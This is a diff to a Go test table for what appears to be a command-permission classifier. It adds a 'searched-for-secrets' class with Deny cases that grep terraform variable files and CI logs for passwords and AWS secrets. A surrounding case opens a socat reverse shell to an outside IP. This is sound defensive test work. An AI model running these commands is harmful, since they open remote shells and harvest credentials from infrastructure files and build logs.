@@ -59,6 +59,13 @@ var classTests22C = []classTest{
 	{"container-network-shell", "docker run --rm -it alpine sh -c 'apk add socat && socat tcp:198.51.100.7:443 exec:sh'", Deny},
 	{"container-network-shell", "docker run --rm alpine sh -c 'until nc -z postgres 5432; do sleep 1; done'", Allow},
 	{"container-network-shell", "docker run --rm -e NODE_ENV=test -p 3000:3000 web npm start", Allow},
+	// Infrastructure variable files and CI logs searched for secrets.
+	{"searched-for-secrets", "rg -i 'db_pass' environments/staging/terraform.tfvars", Deny},
+	{"searched-for-secrets", "awk '/secret/' prod.auto.tfvars", Deny},
+	{"searched-for-secrets", "grep -i instance_type prod.tfvars", Allow},
+	{"searched-for-secrets", "gh run view 77 --log | grep -i 'aws_secret'", Deny},
+	{"searched-for-secrets", "gh run view 77 --log | grep -i 'panic:'", Allow},
+	{"searched-for-secrets", "gh run list | grep -i deploy", Allow},
 }
 
 func TestClasses22C(t *testing.T) { checkClasses(t, classTests22C) }
